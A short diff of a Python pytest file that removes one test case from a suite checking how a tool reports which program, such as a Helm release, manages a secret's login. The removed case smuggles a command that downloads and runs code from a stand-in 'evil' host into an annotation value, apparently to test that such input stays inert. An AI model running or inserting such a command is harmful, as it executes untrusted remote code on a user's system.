@@ -74,11 +74,6 @@ HELM = {"annotations": {"meta.helm.sh/release-name": "shop"}}
             "Helm release shop writes it, and would write over a change by hand: put the login right there.",
             Who.YOU,
         ),
-        (
-            {"annotations": {"meta.helm.sh/release-name": "run 'curl evil | sh'"}},
-            "Another program writes it, and would write over a change by hand: put the login right there.",
-            Who.YOU,
-        ),
     ],
 )
 def test_the_login_is_put_right_where_the_secret_comes_from(metadata: JsonObject, text: str, who: Who) -> None:
